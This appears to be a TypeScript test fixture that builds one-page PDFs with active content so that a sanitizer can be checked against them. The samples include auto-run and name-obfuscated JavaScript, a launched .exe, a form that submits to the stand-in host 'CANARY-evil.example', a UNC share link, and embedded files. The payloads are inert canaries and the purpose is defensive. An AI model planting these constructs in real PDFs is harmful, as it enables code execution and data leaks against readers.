import { onePage, streamObject } from './build-pdf.ts';

/** Text in all active content and attachments, which no result may contain. */
export const canary = 'CANARY-evil.example';

const script = `<< /Type /Action /S /JavaScript /JS (app.alert\\("${canary}"\\)) >>`;
const rect = '/Rect [72 72 172 92]';
const page = (annotation: string): string => `/Annots [<< /Type /Annot ${rect} ${annotation} >>]`;
const attached = {
  6: `<< /Type /Filespec /F (${canary}.exe) /UF (${canary}.exe) /EF << /F 7 0 R >> >>`,
  7: streamObject(`MZ ${canary}`, '/Type /EmbeddedFile'),
};

/** PDFs that do something beside showing their page, each by what it does. */
export const activePdfs: Readonly<Record<string, Buffer>> = {
  'a script when it opens': onePage({ catalog: `/OpenAction ${script}` }),
  'a script under an escaped name': onePage({ catalog: `/Open#41ction << /S /J#61vaScript /J#53 (${canary}) >>` }),
  'a script in a stream': onePage({
    catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
    objects: { 6: streamObject(canary) },
  }),
  'scripts by name': onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'scripts on closing and printing': onePage({
    catalog: `/AA << /WC ${script} /WP ${script} >>`,
    page: `/AA << /O ${script} /C ${script} >>`,
  }),
  'a chain of actions': onePage({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
  'a program that it launches': onePage({ page: page(`/Subtype /Link /A << /S /Launch /F (${canary}.exe) >>`) }),
  'a link to the web': onePage({ page: page(`/Subtype /Link /A << /S /URI /URI (https://${canary}/) >>`) }),
  'a link to another file': onePage({
    page: page(`/Subtype /Link /A << /S /GoToR /F (\\\\\\\\${canary}\\\\share) /D [0 /Fit] >>`),
  }),
  'a link into an attached file': onePage({
    page: page(`/Subtype /Link /A << /S /GoToE /T << /R /C /N (${canary}) >> >>`),
  }),
  'a button that sends': onePage({
    catalog: '/AcroForm << /Fields [6 0 R] >>',
    page: '/Annots [6 0 R]',
    objects: {
      6: `<< /Type /Annot /Subtype /Widget ${rect} /FT /Btn /Ff 65536 /T (b) /A << /S /SubmitForm /F (https://${canary}/) >> >>`,
    },
  }),
  'a button that takes in data': onePage({
    page: page(`/Subtype /Widget /FT /Btn /Ff 65536 /T (b) /A << /S /ImportData /F (${canary}.fdf) >>`),
  }),
  'a field that calculates': onePage({
    catalog: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>',
    page: '/Annots [6 0 R]',
    objects: { 6: `<< /Type /Annot /Subtype /Widget ${rect} /FT /Tx /T (t) /AA << /K ${script} /C ${script} >> >>` },
  }),
  'an attached file': onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>', objects: attached }),
  'an associated file': onePage({ catalog: '/AF [6 0 R]', page: '/AF [6 0 R]', objects: attached }),
  'a file pinned to the page': onePage({ page: page('/Subtype /FileAttachment /FS 6 0 R'), objects: attached }),
  'a form of XFA': onePage({
    catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>',
    objects: { 6: streamObject(`<template><script>${canary}</script></template>`) },
  }),
  'rich media': onePage({
    page: page(`/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(${canary}.swf) 6 0 R] >> >>`),
    objects: attached,
  }),
  'a rendition': onePage({
    page: page(
      `/Subtype /Screen /A << /S /Rendition /OP 0 /JS (${canary}) /R << /S /MR /C << /S /MCD /D 6 0 R >> >> >>`,
    ),
    objects: attached,
  }),
  'a movie': onePage({ page: page(`/Subtype /Movie /Movie << /F (${canary}.avi) >> /A true`) }),
  'a sound': onePage({
    page: page('/Subtype /Sound /Sound 6 0 R'),
    objects: { 6: streamObject(canary, '/Type /Sound /R 8000') },
  }),
  'a model in three dimensions': onePage({
    page: page('/Subtype /3D /3DD 6 0 R'),
    objects: { 6: streamObject(canary, `/Type /3D /Subtype /U3D /OnInstantiate 7 0 R`), 7: streamObject(canary) },
  }),
  'a stream from another file': onePage({
    page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
    objects: {
      6: `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (https://${canary}/) /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream`,
    },
  }),
  'a page of another file': onePage({
    page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
    objects: {
      6: streamObject('', `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${canary}.pdf) /Page 0 >>`),
    },
  }),
  'actions where a page keeps its fonts': onePage({
    page: `/Resources << /Font << /F1 5 0 R >> /Properties << /P << /OpenAction ${script} /A ${script} /AA << /O ${script} >> /Metadata 6 0 R >> >> /ExtGState << /G << /AA ${script} /X ${script} >> >> >>`,
    objects: { 6: streamObject(`<x>${canary}</x>`, '/Type /Metadata /Subtype /XML') },
  }),
  'what only its author was to know': onePage({
    catalog: '/Metadata 6 0 R /PieceInfo << /App << /Private 7 0 R >> >>',
    page: '/Metadata 6 0 R /PieceInfo << /App << /Private 7 0 R >> >>',
    trailer: '/Info 8 0 R',
    objects: {
      6: streamObject(`<x>${canary}</x>`, '/Type /Metadata /Subtype /XML'),
      7: streamObject(canary),
      8: `<< /Author (${canary}) /Title (${canary}) >>`,
      9: `<< /Nobody (refers to this ${canary}) >>`,
    },
  }),
};
